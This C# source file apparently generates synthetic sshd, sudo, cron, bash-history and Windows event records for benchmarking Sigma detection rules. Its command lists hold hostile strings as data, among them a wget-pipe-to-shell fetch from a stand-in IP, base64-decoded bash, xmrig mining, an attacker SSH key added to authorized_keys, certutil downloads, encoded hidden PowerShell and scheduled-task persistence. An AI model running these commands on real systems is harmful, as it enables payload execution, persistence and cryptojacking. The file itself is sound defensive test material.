using Timeline.Core.Events;

namespace Timeline.Bench.Sigma;

/// <summary>
/// A deterministic mix of events shaped like our parsers' output: Linux auth (sshd, sudo), cron, bash
/// history, and Windows Security/System/Sysmon records. A pool of distinct field sets is cycled; each
/// event gets its own origin and an increasing time.
/// </summary>
internal static class SyntheticEvents
{
    public static List<EventRecord> Make(int count, int seed = 42)
    {
        var random = new Random(seed);
        var pool = Enumerable.Range(0, 5000).Select(_ => Template(random)).ToArray();
        var start = new DateTime(2024, 3, 1, 0, 0, 0, DateTimeKind.Utc).Ticks;
        var events = new List<EventRecord>(count);
        for (var i = 0; i < count; i++)
        {
            var (parser, message, fields) = pool[random.Next(pool.Length)];
            events.Add(new EventRecord
            {
                Ticks = start + i * TimeSpan.TicksPerMillisecond * 50,
                TimeQuality = TimeQuality.Exact,
                Host = "host" + (i % 7),
                Parser = parser,
                Message = message,
                Fields = fields,
                Origin = new Origin("bench.log", "0123456789abcdef", i + 1),
            });
        }
        return events;
    }

    private static readonly string[] Commands =
    [
        "ls -la /var/www", "cd /tmp", "wget -q -O - http://203.0.113.9/d.sh | sh", "systemctl restart nginx", "vim /etc/hosts",
        "curl -fsSL https://get.example.com | bash", "ps aux | grep java", "tail -f /var/log/syslog", "chattr +ia /etc/ld.so.preload",
        "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level=0", "history -c", "cat /etc/passwd", "sudo -i",
        "docker ps -a", "git pull origin main", "python3 manage.py migrate", "crontab -l | sed '/kinsing/d' | crontab -",
        "echo \"ssh-rsa AAAA mdrfckr\" >> ~/.ssh/authorized_keys", "base64 -d /tmp/x | bash", "nohup ./kswapd0 >/dev/null 2>&1 &",
    ];

    private static readonly string[] WinImages =
    [
        @"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Windows\System32\svchost.exe",
        @"C:\Program Files\Google\Chrome\Application\chrome.exe", @"C:\Windows\System32\rundll32.exe", @"C:\Users\Public\xmrig.exe",
        @"C:\Windows\System32\schtasks.exe", @"C:\Windows\System32\certutil.exe", @"C:\Windows\explorer.exe",
    ];

    private static readonly string[] WinArgs =
    [
        "/c whoami", "-nop -w hidden -enc SQBFAFgA", "-k netsvcs -p", "--type=renderer --lang=en-US", "shell32.dll,Control_RunDLL",
        "-o pool.minexmr.com:4444 -u 4AAAA", "/create /tn Update /tr C:\\x.exe /sc minute", "-urlcache -split -f http://x/a.exe a.exe", "",
    ];

    private static (string Parser, string Message, FieldSet Fields) Template(Random r)
    {
        var ip = $"{r.Next(1, 223)}.{r.Next(256)}.{r.Next(256)}.{r.Next(1, 255)}";
        var user = r.Next(4) switch { 0 => "root", 1 => "admin", 2 => "ubuntu", _ => "user" + r.Next(100) };
        var kind = r.Next(100);
        if (kind < 25)
        {
            var accepted = r.Next(5) == 0;
            var ev = accepted ? "ssh_accepted" : r.Next(2) == 0 ? "ssh_failed" : "ssh_invalid_user";
            var msg = accepted ? $"Accepted password for {user} from {ip} port {r.Next(1024, 65535)} ssh2" : $"Failed password for {user} from {ip} port {r.Next(1024, 65535)} ssh2";
            return ("linux/auth", "web01 sshd[1234]: " + msg, Fields(("program", "sshd"), ("pid", "1234"), ("event", ev), ("user", user), ("src_ip", ip), ("auth_method", "password")));
        }
        if (kind < 32)
        {
            var cmd = Commands[r.Next(Commands.Length)];
            return ("linux/auth", $"web01 sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}",
                Fields(("program", "sudo"), ("event", "sudo"), ("user", user), ("target_user", "root"), ("command", cmd), ("tty", "pts/0")));
        }
        if (kind < 45)
        {
            var cmd = r.Next(3) == 0 ? Commands[r.Next(Commands.Length)] : "run-parts /etc/cron.hourly";
            return ("linux/cron", $"web01 CRON[4242]: ({user}) CMD ({cmd})", Fields(("program", "CRON"), ("pid", "4242"), ("event", "cron_cmd"), ("cron_user", user), ("command", cmd)));
        }
        if (kind < 60)
        {
            var cmd = Commands[r.Next(Commands.Length)];
            return ("linux/bash-history", cmd, Fields(("command", cmd), ("user", user)));
        }
        if (kind < 75)
        {
            var eid = r.Next(3) switch { 0 => "4624", 1 => "4625", _ => "4688" };
            var image = WinImages[r.Next(WinImages.Length)];
            var cmdline = image + " " + WinArgs[r.Next(WinArgs.Length)];
            return ("windows/evtx", $"Security {eid}", Fields(("Channel", "Security"), ("EventID", eid), ("Provider", "Microsoft-Windows-Security-Auditing"), ("Computer", "WS01"),
                ("TargetUserName", user), ("LogonType", r.Next(2) == 0 ? "3" : "10"), ("IpAddress", ip), ("NewProcessName", image), ("CommandLine", cmdline), ("SubjectUserName", user)));
        }
        if (kind < 92)
        {
            var image = WinImages[r.Next(WinImages.Length)];
            var parent = WinImages[r.Next(WinImages.Length)];
            var cmdline = "\"" + image + "\" " + WinArgs[r.Next(WinArgs.Length)];
            return ("windows/evtx", "Sysmon 1", Fields(("Channel", "Microsoft-Windows-Sysmon/Operational"), ("EventID", "1"), ("Provider", "Microsoft-Windows-Sysmon"), ("Computer", "WS01"),
                ("Image", image), ("CommandLine", cmdline), ("ParentImage", parent), ("ParentCommandLine", parent), ("User", "WS01\\" + user),
                ("OriginalFileName", Path.GetFileName(image)), ("IntegrityLevel", "High"), ("CurrentDirectory", @"C:\Windows\system32\"), ("Hashes", "SHA256=ABC")));
        }
        var svc = r.Next(4) == 0 ? "WinRing0_1_2_0" : "Svc" + r.Next(50);
        return ("windows/evtx", "System 7045", Fields(("Channel", "System"), ("EventID", "7045"), ("Provider", "Service Control Manager"), ("Computer", "WS01"),
            ("ServiceName", svc), ("ImagePath", @"C:\ProgramData\" + svc + ".exe"), ("ServiceType", "user mode service"), ("StartType", "auto start"), ("AccountName", "LocalSystem")));
    }

    private static FieldSet Fields(params (string, string)[] pairs)
    {
        var set = new FieldSet(pairs.Length);
        foreach (var (k, v) in pairs) set.Set(k, v);
        return set;
    }
}
